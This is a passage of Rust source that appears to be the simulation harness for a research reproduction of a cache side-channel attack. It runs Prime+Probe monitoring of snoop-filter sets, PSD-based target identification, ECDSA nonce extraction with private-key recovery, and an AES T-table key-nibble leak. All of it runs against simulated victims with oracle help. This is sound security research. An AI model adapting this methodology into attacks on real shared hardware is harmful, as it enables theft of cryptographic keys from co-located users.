        let below = self.intervals_us.iter().filter(|&&v| v <= threshold_us).count();
        below as f64 / self.intervals_us.len() as f64
    }
}

/// Measures the time between background accesses to a randomly chosen LLC/SF
/// set with Prime+Probe, as in Figure 2.
pub fn measure_noise_cdf(
    spec: &CacheSpec,
    environment: Environment,
    samples: usize,
    seed: u64,
) -> NoiseCdf {
    let mut machine =
        Machine::builder(spec.clone()).noise(environment.noise()).seed(seed).build();
    let mut rng = StdRng::seed_from_u64(seed ^ 0xcdf);
    // Oracle-built eviction set: the experiment measures noise, not Step 1.
    let candidates = CandidateSet::allocate(&mut machine, 0x240, 4096, &mut rng);
    let anchor = candidates.addresses()[0];
    let congruent = oracle::congruent_with(&machine, anchor, &candidates.addresses()[1..]);
    let ways = spec.sf.ways();
    let set = EvictionSet::new(congruent[..ways].to_vec(), TargetCache::Sf);

    let mut monitor = Monitor::new(Strategy::Parallel, set);
    let mut trace = AccessTrace { start: 0, end: 0, timestamps: vec![], probes: 0, primes: 0 };
    // Collect in chunks until enough inter-arrival samples are available.
    let freq = spec.freq_ghz;
    let chunk = (50.0 * freq * 1e6) as u64; // 50 ms of simulated time per chunk
    for _ in 0..40 {
        let t = monitor.collect(&mut machine, chunk);
        trace.timestamps.extend(t.timestamps.iter().copied());
        trace.start = trace.start.min(t.start);
        trace.end = t.end;
        if trace.timestamps.len() > samples {
            break;
        }
    }
    let intervals_us: Vec<f64> = trace
        .timestamps
        .windows(2)
        .take(samples)
        .map(|w| (w[1] - w[0]) as f64 / (freq * 1e3))
        .collect();
    let mut sorted = intervals_us.clone();
    sorted.sort_by(|a, b| a.partial_cmp(b).expect("finite"));
    NoiseCdf {
        environment: environment.label(),
        intervals_us: sorted,
        accesses_per_ms: trace.accesses_per_ms(freq),
    }
}

// ---------------------------------------------------------------------------
// Figure 3: TestEviction duration vs candidate count
// ---------------------------------------------------------------------------

/// One point of Figure 3.
#[derive(Debug, Clone)]
pub struct TestEvictionPoint {
    /// Number of candidate addresses tested.
    pub candidates: usize,
    /// Parallel TestEviction duration (µs).
    pub parallel_us: SampleStats,
    /// Sequential TestEviction duration (µs).
    pub sequential_us: SampleStats,
}

/// Measures parallel vs sequential `TestEviction` durations (Figure 3).
///
/// The candidate pool is allocated once into a warmed machine; each
/// candidate-count point then runs as one fleet trial against a rewound copy
/// of that machine, so points are mutually independent (the serial version
/// leaked cache state from smaller points into larger ones) and the sweep
/// parallelises across workers.
pub fn measure_test_eviction(
    spec: &CacheSpec,
    environment: Environment,
    candidate_counts: &[usize],
    repeats: usize,
    seed: u64,
    fleet: &Fleet,
) -> Vec<TestEvictionPoint> {
    let mut base = Machine::builder(spec.clone())
        .noise(environment.noise())
        .seed(stream_seed(seed, trial_streams::MACHINE))
        .build();
    let mut rng = StdRng::seed_from_u64(stream_seed(seed, trial_streams::ALLOC));
    let max = *candidate_counts.iter().max().unwrap_or(&0);
    let pool = CandidateSet::allocate(&mut base, 0x240, max + 1, &mut rng);
    let ta = pool.addresses()[0];
    let freq = spec.freq_ghz;
    let snapshot = base.snapshot();

    fleet.run_with(
        candidate_counts.len(),
        seed,
        |_worker| snapshot.to_machine(),
        |machine, ctx| {
            machine.reset_to(&snapshot);
            machine.reseed(ctx.stream(trial_streams::NOISE));
            let n = candidate_counts[ctx.trial];
            let cands = &pool.addresses()[1..=n];
            let mut par = Vec::with_capacity(repeats);
            let mut seq = Vec::with_capacity(repeats);
            for _ in 0..repeats {
                let (_, t) =
                    test_eviction(machine, ta, cands, TargetCache::Llc, TraversalOrder::Parallel);
                par.push(t as f64 / (freq * 1e3));
                let (_, t) =
                    test_eviction(machine, ta, cands, TargetCache::Llc, TraversalOrder::Sequential);
                seq.push(t as f64 / (freq * 1e3));
            }
            TestEvictionPoint {
                candidates: n,
                parallel_us: SampleStats::from(&par),
                sequential_us: SampleStats::from(&seq),
            }
        },
    )
}

// ---------------------------------------------------------------------------
// Table 6 / Figure 7: PSD-based target-set identification
// ---------------------------------------------------------------------------

/// Result of the target-set identification experiment (Table 6).
#[derive(Debug, Clone)]
pub struct IdentificationStats {
    /// Scenario label ("PageOffset" or "WholeSys").
    pub scenario: &'static str,
    /// Fraction of trials that found the true target set before timeout.
    pub success_rate: f64,
    /// Time-to-identify statistics over successful trials, in seconds.
    pub success_time_s: SampleStats,
    /// Mean sets scanned per second.
    pub scan_rate_per_s: f64,
}

/// One trial's outcome of the identification experiment.
#[derive(Debug, Clone, Copy)]
struct IdentTrial {
    /// Oracle-validated correct identification.
    success: bool,
    /// Time-to-identify in seconds (successes only).
    time_s: Option<f64>,
    /// Scan rate (trials that actually scanned).
    scan_rate: Option<f64>,
}

#[derive(Debug, Clone, Default)]
struct IdentAgg {
    successes: Counts,
    times: Samples,
    scan_rates: Samples,
}

impl Aggregate for IdentAgg {
    type Item = IdentTrial;

    fn empty() -> Self {
        Self::default()
    }

    fn record(&mut self, trial: u64, item: IdentTrial) {
        self.successes.record(trial, item.success);
        if let Some(t) = item.time_s {
            self.times.record(trial, t);
        }
        if let Some(r) = item.scan_rate {
            self.scan_rates.record(trial, r);
        }
    }

    fn merge(&mut self, other: Self) {
        self.successes.merge(other.successes);
        self.times.merge(other.times);
        self.scan_rates.merge(other.scan_rates);
    }
}

/// Runs the Table 6 identification experiment: the victim signs continuously
/// while the attacker scans oracle-built eviction sets (Step 1 is out of
/// scope here) until the PSD+SVM classifier flags the target.
///
/// The classifier is trained once (it only depends on the environment and
/// victim period, not on the trial), then the trials are sharded across
/// `fleet`'s workers; each trial rewinds a snapshotted machine and installs
/// a fresh victim with per-trial key material.
pub fn measure_identification(
    spec: &CacheSpec,
    environment: Environment,
    candidate_sets: usize,
    trials: usize,
    timeout_cycles: u64,
    seed: u64,
    fleet: &Fleet,
) -> IdentificationStats {
    let base = Machine::builder(spec.clone())
        .noise(environment.noise())
        .seed(stream_seed(seed, trial_streams::MACHINE))
        .build();
    let snapshot = base.snapshot();

    // Victim parameters are shared; only the per-trial seed differs.
    let victim_template = EcdsaVictimConfig { nonce_bits: 192, ..EcdsaVictimConfig::default() };
    let expected_period = victim_template.expected_access_period();
    let features = FeatureConfig {
        expected_period_cycles: expected_period,
        ..FeatureConfig::default()
    };
    let classifier = TraceClassifier::train(&ClassifierTrainingConfig {
        features,
        noise_per_ms: environment.noise().accesses_per_ms(spec.freq_ghz),
        ..Default::default()
    });
    let scan_cfg = ScanConfig { timeout_cycles, ..ScanConfig::default() };

    let agg: IdentAgg = fleet.run_fold_with(
        trials,
        seed,
        |_worker| snapshot.to_machine(),
        |machine, ctx| {
            machine.reset_to(&snapshot);
            machine.reseed(ctx.stream(trial_streams::NOISE));
            let mut rng = ctx.stream_rng(trial_streams::ALLOC);

            // Victim: full-size ECDSA service signing continuously.
            let victim_cfg = EcdsaVictimConfig {
                seed: ctx.stream(trial_streams::VICTIM),
                ..victim_template.clone()
            };
            let (victim, handle) = EcdsaVictim::new(victim_cfg);
            machine.install_victim(Box::new(victim), true, 100_000);
            let layout = handle.lock().expect("log").layout.clone().expect("layout");
            let target_loc = machine.oracle_victim_location(layout.branch_line);

            // Oracle-built eviction sets for `candidate_sets` SF sets at the
            // target page offset, always including the true target set.
            let pool = CandidateSet::allocate(
                machine,
                layout.target_page_offset(),
                spec.sf.uncertainty() * spec.sf.ways() * 3,
                &mut rng,
            );
            let groups = oracle::group_by_location(machine, pool.addresses());
            let ways = spec.sf.ways();
            let mut sets: Vec<(VirtAddr, EvictionSet)> = Vec::new();
            if let Some((_, members)) =
                groups.iter().find(|(loc, m)| **loc == target_loc && m.len() > ways)
            {
                sets.push((
                    members[0],
                    EvictionSet::new(members[1..=ways].to_vec(), TargetCache::Sf),
                ));
            }
            for (loc, members) in groups.iter() {
                if sets.len() >= candidate_sets {
                    break;
                }
                if *loc == target_loc || members.len() <= ways {
                    continue;
                }
                sets.push((
                    members[0],
                    EvictionSet::new(members[1..=ways].to_vec(), TargetCache::Sf),
                ));
            }
            if sets.is_empty() {
                return IdentTrial { success: false, time_s: None, scan_rate: None };
            }
            // Scan in random order, as the paper does for WholeSys.
            use rand::seq::SliceRandom;
            sets.shuffle(&mut rng);

            let outcome = llc_core::scan_for_target(machine, &sets, &classifier, &scan_cfg);
            let correct = outcome
                .identified_ta
                .map(|ta| machine.oracle_attacker_location(ta) == target_loc)
                .unwrap_or(false);
            IdentTrial {
                success: correct,
                time_s: correct
                    .then(|| outcome.elapsed_cycles as f64 / (spec.freq_ghz * 1e9)),
                scan_rate: Some(outcome.scan_rate_per_s),
            }
        },
    );

    IdentificationStats {
        scenario: if candidate_sets <= spec.sf.uncertainty() { "PageOffset" } else { "WholeSys" },
        success_rate: agg.successes.rate(),
        success_time_s: SampleStats::from_summary(agg.times.summary()),
        scan_rate_per_s: if agg.scan_rates.is_empty() { 0.0 } else { agg.scan_rates.summary().mean },
    }
}

/// The data behind Figure 7: the PSD of a trace collected from the target SF
/// set and from a non-target SF set while the victim signs.
#[derive(Debug, Clone)]
pub struct PsdComparison {
    /// Access trace of the target set.
    pub target_trace: AccessTrace,
    /// Access trace of a non-target set.
    pub other_trace: AccessTrace,
    /// PSD of the target-set trace.
    pub target_psd: PowerSpectrum,
    /// PSD of the non-target-set trace.
    pub other_psd: PowerSpectrum,
    /// Expected victim frequency in Hz.
    pub expected_hz: f64,
}

/// Collects the Figure 7 traces and spectra.
pub fn measure_psd_example(
    spec: &CacheSpec,
    environment: Environment,
    trace_cycles: u64,
    seed: u64,
) -> PsdComparison {
    let mut machine =
        Machine::builder(spec.clone()).noise(environment.noise()).seed(seed).build();
    let mut rng = StdRng::seed_from_u64(seed ^ 0xf1607);
    let victim_cfg = EcdsaVictimConfig { nonce_bits: 256, ..EcdsaVictimConfig::default() };
    let expected_period = victim_cfg.expected_access_period();
    let (victim, handle) = EcdsaVictim::new(victim_cfg);
    machine.install_victim(Box::new(victim), true, 50_000);
    let layout = handle.lock().expect("log").layout.clone().expect("layout");
    let target_loc = machine.oracle_victim_location(layout.branch_line);

    let pool = CandidateSet::allocate(
        &mut machine,
        layout.target_page_offset(),
        spec.sf.uncertainty() * spec.sf.ways() * 3,
        &mut rng,
    );
    let groups = oracle::group_by_location(&machine, pool.addresses());
    let ways = spec.sf.ways();
    let target_members = groups
        .iter()
        .find(|(loc, m)| **loc == target_loc && m.len() > ways)
        .map(|(_, m)| m.clone())
        .expect("candidate pool covers the target set");
    let other_members = groups
        .iter()
        .find(|(loc, m)| **loc != target_loc && m.len() > ways)
        .map(|(_, m)| m.clone())
        .expect("candidate pool covers another set");

    let feature_cfg = FeatureConfig {
        expected_period_cycles: expected_period,
        freq_ghz: spec.freq_ghz,
        ..FeatureConfig::default()
    };

    let collect = |machine: &mut Machine, members: &[VirtAddr]| -> (AccessTrace, PowerSpectrum) {
        let set = EvictionSet::new(members[..ways].to_vec(), TargetCache::Sf);
        let mut monitor = Monitor::new(Strategy::Parallel, set);
        let trace = monitor.collect(machine, trace_cycles);
        let binned = BinnedTrace::from_timestamps(
            &trace.timestamps,
            trace.start,
            trace.duration(),
            feature_cfg.bin_cycles,
            spec.freq_ghz,
        );
        let psd = welch_psd(
            binned.samples(),
            &WelchConfig { sample_rate_hz: binned.sample_rate_hz(), ..Default::default() },
        );
        (trace, psd)
    };

    // Wait until the victim is in the middle of its ladder before sampling.
    machine.idle(victim_cfg_pre_estimate());
    let (target_trace, target_psd) = collect(&mut machine, &target_members);
    let (other_trace, other_psd) = collect(&mut machine, &other_members);
    PsdComparison {
        target_trace,
        other_trace,
        target_psd,
        other_psd,
        expected_hz: feature_cfg.expected_frequency_hz(),
    }
}

fn victim_cfg_pre_estimate() -> u64 {
    EcdsaVictimConfig::default().pre_cycles + 500_000
}

// ---------------------------------------------------------------------------
// Figure 9 / Section 7.3: nonce extraction and the end-to-end attack
// ---------------------------------------------------------------------------

/// The data behind Figure 9: a short window of detected accesses with the
/// ground-truth nonce bits and iteration boundaries, plus decoding results.
#[derive(Debug, Clone)]
pub struct ExtractionExample {
    /// Detected accesses (absolute cycles).
    pub detections: Vec<u64>,
    /// Ground-truth iteration boundaries (absolute cycles).
    pub iteration_starts: Vec<u64>,
    /// Ground-truth nonce bits per iteration.
    pub nonce_bits: Vec<bool>,
    /// Decoded bits with boundary timestamps.
    pub decoded: Vec<(u64, bool)>,
    /// Fraction of bits recovered.
    pub recovered_fraction: f64,
    /// Bit error rate among recovered bits.
    pub bit_error_rate: f64,
}

/// Monitors the true target set during one signing and decodes nonce bits
/// (Figure 9's trace snippet, quantified).
pub fn measure_extraction_example(
    spec: &CacheSpec,
    environment: Environment,
    nonce_bits: usize,
    seed: u64,
) -> ExtractionExample {
    let mut machine =
        Machine::builder(spec.clone()).noise(environment.noise()).seed(seed).build();
    let mut rng = StdRng::seed_from_u64(seed ^ 0xf19);
    let victim_cfg = EcdsaVictimConfig {
        nonce_bits,
        pre_cycles: 400_000,
        post_cycles: 200_000,
        ..EcdsaVictimConfig::default()
    };
    let iteration_cycles = victim_cfg.iteration_cycles;
    let (victim, handle) = EcdsaVictim::new(victim_cfg.clone());
    machine.install_victim(Box::new(victim), true, 100_000);
    let layout = handle.lock().expect("log").layout.clone().expect("layout");
    let target_loc = machine.oracle_victim_location(layout.branch_line);

    let pool = CandidateSet::allocate(
        &mut machine,
        layout.target_page_offset(),
        spec.sf.uncertainty() * spec.sf.ways() * 3,
        &mut rng,
    );
    let groups = oracle::group_by_location(&machine, pool.addresses());
    let ways = spec.sf.ways();
    let members = groups
        .iter()
        .find(|(loc, m)| **loc == target_loc && m.len() > ways)
        .map(|(_, m)| m.clone())
        .expect("pool covers the target set");
    let set = EvictionSet::new(members[..ways].to_vec(), TargetCache::Sf);

    // Monitor across three runs: one for training the boundary classifier,
    // the rest for decoding.
    let run_cycles = victim_cfg.pre_cycles
        + victim_cfg.post_cycles
        + nonce_bits as u64 * iteration_cycles
        + 100_000;
    let runs_before = machine.victim_runs() as usize;
    let mut monitor = Monitor::new(Strategy::Parallel, set);
    let trace = monitor.collect(&mut machine, run_cycles * 3);

    let log = handle.lock().expect("log");
    let run_starts = machine.victim_run_starts().to_vec();
    let runs: Vec<(u64, &llc_ecdsa_victim::RunGroundTruth)> = run_starts
        .iter()
        .copied()
        .zip(log.runs.iter())
        .skip(runs_before)
        .filter(|(start, run)| *start >= trace.start && start + run.duration <= trace.end)
        .collect();
    assert!(runs.len() >= 2, "monitoring window must cover at least two signings");

    let extraction = ExtractionConfig { iteration_cycles, ..ExtractionConfig::default() };
    let slice = |start: u64, end: u64| AccessTrace {
        start,
        end,
        timestamps: trace.timestamps.iter().copied().filter(|&t| t >= start && t < end).collect(),
        probes: trace.probes,
        primes: trace.primes,
    };

    let (train_start, train_run) = runs[0];
    let train_trace = slice(train_start, train_start + train_run.duration);
    let train_bounds: Vec<u64> =
        train_run.iteration_starts.iter().map(|&o| train_start + o).collect();
    let classifier = BoundaryClassifier::train(&extraction, &[(&train_trace, &train_bounds)]);

    let (attack_start, attack_run) = runs[1];
    let attack_trace = slice(attack_start, attack_start + attack_run.duration);
    let boundaries = classifier.boundaries(&attack_trace);
    let decoded = decode_bits(&attack_trace, &boundaries, &extraction);
    let starts: Vec<u64> = attack_run.iteration_starts.iter().map(|&o| attack_start + o).collect();
    let score = score_extraction(&decoded, &starts, &attack_run.nonce_bits, &extraction);

    ExtractionExample {
        detections: attack_trace.timestamps.clone(),
        iteration_starts: starts,
        nonce_bits: attack_run.nonce_bits.clone(),
        decoded: decoded.iter().map(|d| (d.boundary, d.bit)).collect(),
        recovered_fraction: score.recovered_fraction(),
        bit_error_rate: score.bit_error_rate(),
    }
}

// ---------------------------------------------------------------------------
// Step 4: noisy-nonce key recovery (the `e2e_key` experiment)
// ---------------------------------------------------------------------------

/// Per-signature row of the key-recovery campaign report.
#[derive(Debug, Clone, Copy)]
pub struct SignatureAttemptRow {
    /// Signature index within the campaign (0-based).
    pub index: usize,
    /// Soft-decoded bits observed for this signing.
    pub observed_bits: usize,
    /// Erased ladder positions after shift-0 alignment.
    pub erasures: usize,
    /// Correction-search candidates examined (all shift hypotheses).
    pub candidates_examined: u64,
    /// Candidates submitted to public-key verification.
    pub candidates_tested: u64,
    /// Whether this signature's corrected nonce verified.
    pub recovered: bool,
}

/// Outcome of the fleet-sharded key-recovery campaign.
#[derive(Debug, Clone)]
pub struct KeyRecoveryOutcome {
    /// One row per attacked signature, in order, up to and including the
    /// successful one.
    pub per_signature: Vec<SignatureAttemptRow>,
    /// `signature_index + 1` of the successful signature, if any.
    pub signatures_needed: Option<usize>,
    /// Whether the recovered key equals the victim's ground-truth private
    /// key (always true on success: verification is against the public key).
    pub matches_ground_truth: bool,
    /// The recovered private key.
    pub recovered_key: Option<Scalar>,
    /// Ladder positions per signature (nonce width − 1).
    pub ladder_bits: usize,
    /// Mean simulated cycles spent monitoring one signature.
    pub mean_capture_cycles: f64,
}

/// The multi-signature key-recovery campaign as a fleet workload: the
/// eviction set for the victim's branch-line SF set is prepared once
/// (oracle-built — Step 1/2 quality is measured by tables 3–6), a boundary
/// classifier is trained on one profiling signing, and then **each fleet
/// trial captures one fresh signature**: the worker rewinds its machine to
/// the shared snapshot, installs a fresh victim (same long-term key, fresh
/// nonce/jitter streams), reseeds the noise, monitors one signing window and
/// soft-decodes it. The observations come back in trial order; the
/// confidence-ordered correction search then attacks them serially until a
/// corrected nonce verifies against the service's public key, so the whole
/// report is bit-identical for every `--threads` value.
#[allow(clippy::too_many_arguments)] // one knob per experiment axis; callers name each cell
pub fn measure_key_recovery(
    spec: &CacheSpec,
    environment: Environment,
    fidelity: NoiseFidelity,
    hierarchy: HierarchyOptions,
    tenants: &TenantPopulation,
    nonce_bits: usize,
    max_signatures: usize,
    search: SearchConfig,
    seed: u64,
    fleet: &Fleet,
) -> KeyRecoveryOutcome {
    const REQUEST_GAP: u64 = 100_000;
    let victim_template = EcdsaVictimConfig {
        nonce_bits,
        pre_cycles: 400_000,
        post_cycles: 200_000,
        full_crypto: true,
        key_seed: 0x515_0b0b,
        ..EcdsaVictimConfig::default()
    };
    let iteration_cycles = victim_template.iteration_cycles;
    let request_cycles = victim_template.pre_cycles
        + victim_template.post_cycles
        + nonce_bits as u64 * iteration_cycles
        + REQUEST_GAP;
    let window = request_cycles * 2;
    let extraction = ExtractionConfig { iteration_cycles, ..ExtractionConfig::default() };

    // Shared base machine: the candidate pool is allocated *before* the
    // snapshot so its mappings survive every per-trial rewind.
    let mut base = Machine::builder(spec.clone())
        .noise(environment.noise())
        .noise_fidelity(fidelity)
        .hierarchy_options(hierarchy)
        .tenants(tenants.clone())
        .seed(stream_seed(seed, trial_streams::MACHINE))
        .build();
    let mut rng = StdRng::seed_from_u64(stream_seed(seed, trial_streams::ALLOC));
    let pool = CandidateSet::allocate(
        &mut base,
        0x240, // the branch line's page offset, known from the public binary
        spec.sf.uncertainty() * spec.sf.ways() * 3,
        &mut rng,
    );
    let snapshot = base.snapshot();

    // Probe installation: locate the target SF set and its congruent pool
    // members. Installing right after the snapshot pins the victim's
    // address-space lottery — every per-trial install after `reset_to`
    // replays the same draw, so the eviction set below stays aimed at the
    // target set in all trials.
    let install = |machine: &mut Machine, victim_seed: u64| {
        let cfg = EcdsaVictimConfig { seed: victim_seed, ..victim_template.clone() };
        let (victim, handle) = EcdsaVictim::new(cfg);
        machine.install_victim(Box::new(victim), true, REQUEST_GAP);
        handle
    };
    let handle = install(&mut base, stream_seed(seed, trial_streams::VICTIM));
    let (layout, key_pair) = {
        let log = handle.lock().expect("victim log");
        (log.layout.clone().expect("layout"), log.key_pair.clone().expect("full crypto key"))
    };
    let target_loc = base.oracle_victim_location(layout.branch_line);
    let groups = oracle::group_by_location(&base, pool.addresses());
    let ways = spec.sf.ways();
    let members = groups
        .iter()
        .find(|(loc, m)| **loc == target_loc && m.len() > ways)
        .map(|(_, m)| m.clone())
        .expect("candidate pool covers the target set");
    let evset = EvictionSet::new(members[..ways].to_vec(), TargetCache::Sf);
    let public = *key_pair.public();
    let ground_truth = *key_pair.private();

    // Train the boundary classifier on one profiling signing (ground-truth
    // iteration starts, as in the pipeline and the paper's instrumentation).
    base.reset_to(&snapshot);
    let train_handle = install(&mut base, stream_seed(seed, trial_streams::TRAIN));
    base.reseed(stream_seed(seed, trial_streams::TRAIN));
    let training = llc_core::capture_signing_run(&mut base, &evset, &train_handle, window, 0)
        .expect("training window must cover one signing");
    let train_boundaries: Vec<u64> =
        training.run.iteration_starts.iter().map(|&o| training.run_start + o).collect();
    let classifier =
        BoundaryClassifier::train(&extraction, &[(&training.trace, &train_boundaries)]);

    // One fleet trial = one fresh signature observation.
    let observations: Vec<Option<SignatureObservation>> = fleet.run_with(
        max_signatures,
        seed,
        |_worker| snapshot.to_machine(),
        |machine, ctx| {
            machine.reset_to(&snapshot);
            // Install before reseeding: the victim layout lottery must
            // replay the snapshot's stream (see above); only the noise and
            // nonce streams differ per trial.
            let handle = install(machine, ctx.stream(trial_streams::VICTIM));
            machine.reseed(ctx.stream(trial_streams::NOISE));
            let capture = llc_core::capture_signing_run(machine, &evset, &handle, window, 0)?;
            let scored = classifier.scored_boundaries(&capture.trace);
            let decoded = decode_bits_soft(&capture.trace, &scored, &extraction);
            let mut observation = llc_core::soft_observation(&capture.run, &decoded)?;
            observation.sim_cycles = capture.cycles;
            Some(observation)
        },
    );

    // Serial, trial-ordered campaign over the observations: deterministic
    // for any thread count because the fleet returns them in trial order.
    let ladder_bits = nonce_bits.min(llc_ecdsa_victim::group_order().bit_length()) - 1;
    let campaign_cfg = CampaignConfig {
        ladder_bits,
        iteration_cycles,
        max_signatures,
        max_alignment_shift: 1,
        search,
    };
    let mut outcome = KeyRecoveryOutcome {
        per_signature: Vec::new(),
        signatures_needed: None,
        matches_ground_truth: false,
        recovered_key: None,
        ladder_bits,
        mean_capture_cycles: 0.0,
    };
    let mut capture_cycles = Vec::new();
    for (index, observation) in observations.iter().enumerate() {
        let Some(observation) = observation else { continue };
        capture_cycles.push(observation.sim_cycles as f64);
        let (recovered, stats) = attempt_signature(&campaign_cfg, &public, observation);
        let row = SignatureAttemptRow {
            index,
            observed_bits: observation.observed.len(),
            erasures: stats.erasures,
            candidates_examined: stats.candidates_examined,
            candidates_tested: stats.candidates_tested,
            recovered: recovered.is_some(),
        };
        outcome.per_signature.push(row);
        if let Some(key) = recovered {
            outcome.signatures_needed = Some(index + 1);
            outcome.matches_ground_truth = key.private == ground_truth;
            outcome.recovered_key = Some(key.private);
            break;
        }
    }
    if !capture_cycles.is_empty() {
        outcome.mean_capture_cycles =
            capture_cycles.iter().sum::<f64>() / capture_cycles.len() as f64;
    }
    outcome
}

// ---------------------------------------------------------------------------
// AES T-table first-round leak
// ---------------------------------------------------------------------------

/// Recovery evidence for one monitored key byte of the AES victim.
#[derive(Debug, Clone, Copy)]
pub struct AesByteRecovery {
    /// Index of the key byte (0, 4, 8 or 12 — the state bytes that index
    /// the monitored table `T0`).
    pub byte_index: usize,
    /// Upper nibble recovered by the correlation (argmax over guesses).
    pub recovered_nibble: u8,
    /// Ground-truth upper nibble of the key byte.
    pub true_nibble: u8,
    /// Detection rate over requests whose plaintext nibble matches the
    /// recovered guess.
    pub hit_rate_best: f64,
    /// Mean detection rate over the other fifteen guesses.
    pub hit_rate_rest: f64,
}

/// Outcome of the AES T-table first-round attack.
#[derive(Debug, Clone)]
pub struct AesLeakOutcome {
    /// Complete victim requests observed across all trials.
    pub requests: usize,
    /// Fraction of observed requests with a detection inside the lookup
    /// window.
    pub detection_rate: f64,
    /// One row per monitored key byte, in byte order.
    pub per_byte: Vec<AesByteRecovery>,
    /// Rows whose recovered nibble matches ground truth.
    pub correct: usize,
}

/// The AES T-table first-round attack as a fleet workload: the attacker
/// monitors the SF set of `T0`'s first cache line with Parallel Probing and
/// correlates per-request detections against the known plaintexts. Byte `i`
/// of the first round touches line `(p[i] ^ k[i]) >> 4` of `T[i mod 4]`, so
/// for every byte indexing `T0` the detection rate, conditioned on the
/// plaintext nibble `p[i] >> 4` equalling a guess `g`, peaks at
/// `g = k[i] >> 4` — recovering the upper nibble of `k[0]`, `k[4]`, `k[8]`
/// and `k[12]` from one monitored set. Each fleet trial captures an
/// independent batch of requests (fresh plaintext and noise streams); the
/// correlation is a counting aggregate, so the outcome is bit-identical for
/// every thread count.
#[allow(clippy::too_many_arguments)] // one knob per experiment axis; callers name each cell
pub fn measure_aes_ttable(
    spec: &CacheSpec,
    environment: Environment,
    fidelity: NoiseFidelity,
    hierarchy: HierarchyOptions,
    requests: usize,
    trials: usize,
    seed: u64,
    fleet: &Fleet,
) -> AesLeakOutcome {
    const REQUEST_GAP: u64 = 20_000;
    /// The state bytes whose first-round lookup indexes `T0`.
    const MONITORED_BYTES: [usize; 4] = [0, 4, 8, 12];
    let template = AesTTableConfig::default();
    let key = template.key;
    let request_cycles = template.request_cycles();
    let requests_per_trial = requests.div_ceil(trials.max(1)).max(1);
    // Dispatch delay + inter-request gap per run, plus one spare run so the
    // last batch entry always completes inside the trace.
    let window = (requests_per_trial as u64 + 1) * (request_cycles + REQUEST_GAP + 2_000);

    // Shared base machine; the candidate pool targets page offset 0 (the
    // first line of T0, known from the public binary's .rodata layout) and
    // is allocated before the snapshot so it survives per-trial rewinds.
    let mut base = Machine::builder(spec.clone())
        .noise(environment.noise())
        .noise_fidelity(fidelity)
        .hierarchy_options(hierarchy)
        .seed(stream_seed(seed, trial_streams::MACHINE))
        .build();
    let mut rng = StdRng::seed_from_u64(stream_seed(seed, trial_streams::ALLOC));
    let pool =
        CandidateSet::allocate(&mut base, 0x0, spec.sf.uncertainty() * spec.sf.ways() * 3, &mut rng);
    let snapshot = base.snapshot();

    // Installing right after the snapshot pins the victim's address-space
    // lottery; per-trial installs after `reset_to` replay the same draw, so
    // the eviction set stays aimed at the monitored set in every trial.
    let install = |machine: &mut Machine, victim_seed: u64| {
        let cfg = AesTTableConfig { seed: victim_seed, ..template.clone() };
        let (victim, handle) = AesTTableVictim::new(cfg);
        machine.install_victim(Box::new(victim), true, REQUEST_GAP);
        handle
    };
    let handle = install(&mut base, stream_seed(seed, trial_streams::VICTIM));
    let layout = handle.lock().expect("AES victim log").layout.expect("layout");
    let monitored = layout.table_line(0, 0);
    let target_loc = base.oracle_victim_location(monitored);
    let groups = oracle::group_by_location(&base, pool.addresses());
    let ways = spec.sf.ways();
    let members = groups
        .iter()
        .find(|(loc, m)| **loc == target_loc && m.len() > ways)
        .map(|(_, m)| m.clone())
        .expect("candidate pool covers the monitored set");
    let evset = EvictionSet::new(members[..ways].to_vec(), TargetCache::Sf);

    // One fleet trial = one independent batch of requests.
    let batches: Vec<Vec<([u8; 16], bool)>> = fleet.run_with(
        trials,
        seed,
        |_worker| snapshot.to_machine(),
        |machine, ctx| {
            machine.reset_to(&snapshot);
            let handle = install(machine, ctx.stream(trial_streams::VICTIM));
            machine.reseed(ctx.stream(trial_streams::NOISE));
            let mut monitor = Monitor::new(Strategy::Parallel, evset.clone());
            let trace = monitor.collect(machine, window);
            let starts = machine.victim_run_starts().to_vec();
            let log = handle.lock().expect("AES victim log");
            // Pair each complete run with its plaintext; detection counts
            // only inside the lookup phase (plus one probe period of slack)
            // so parsing/serialisation phases cannot alias in.
            starts
                .iter()
                .zip(&log.plaintexts)
                .filter(|(&start, _)| {
                    start >= trace.start && start + request_cycles <= trace.end
                })
                .take(requests_per_trial)
                .map(|(&start, p)| {
                    let lo = start + template.lookup_start();
                    let hi = start + template.lookup_end() + 4_000;
                    let detected = trace.timestamps.iter().any(|&t| t >= lo && t < hi);
                    (*p, detected)
                })
                .collect::<Vec<_>>()
        },
    );

    // Counting aggregate over all observed requests (order-independent).
    let rows: Vec<([u8; 16], bool)> = batches.into_iter().flatten().collect();
    let detections = rows.iter().filter(|(_, d)| *d).count();
    let per_byte: Vec<AesByteRecovery> = MONITORED_BYTES
        .iter()
        .map(|&i| {
            let mut hits = [0usize; 16];
            let mut totals = [0usize; 16];
            for (p, detected) in &rows {
                let g = (p[i] >> 4) as usize;
                totals[g] += 1;
                if *detected {
                    hits[g] += 1;
                }
            }
            let rate = |g: usize| {
                if totals[g] == 0 { 0.0 } else { hits[g] as f64 / totals[g] as f64 }
            };
            let recovered =
                (0..16).max_by(|&a, &b| rate(a).partial_cmp(&rate(b)).expect("finite")).unwrap_or(0);
            let rest: Vec<f64> =
                (0..16).filter(|&g| g != recovered && totals[g] > 0).map(rate).collect();
            AesByteRecovery {
                byte_index: i,
                recovered_nibble: recovered as u8,
                true_nibble: key[i] >> 4,
                hit_rate_best: rate(recovered),
                hit_rate_rest: if rest.is_empty() {
                    0.0
                } else {
                    rest.iter().sum::<f64>() / rest.len() as f64
                },
            }
        })
        .collect();
    let correct = per_byte.iter().filter(|r| r.recovered_nibble == r.true_nibble).count();
    AesLeakOutcome {
        requests: rows.len(),
        detection_rate: if rows.is_empty() { 0.0 } else { detections as f64 / rows.len() as f64 },
        per_byte,
        correct,
    }
}

/// Runs the full end-to-end attack *including Step 4* on the pinned tiny
/// host (the [`AttackConfig::fast_key_recovery`] configuration, with the
/// campaign budgets overridable for scaling experiments).
pub fn run_end_to_end_key(
    max_signatures: usize,
    max_flips: usize,
    seed: u64,
) -> AttackReport {
    let mut config = AttackConfig::fast_key_recovery();
    config.seed = seed;
    config.recovery = RecoveryConfig {
        max_signatures,
        search: SearchConfig { max_flips, ..config.recovery.search },
        ..config.recovery
    };
    EndToEndAttack::new(config).run()
}

/// Runs the full end-to-end attack (Section 7.3) on a scaled host and returns
/// the report.
pub fn run_end_to_end(spec: &CacheSpec, environment: Environment, seed: u64) -> AttackReport {
    let victim = EcdsaVictimConfig {
        nonce_bits: 128,
        pre_cycles: 2_000_000,
        post_cycles: 800_000,
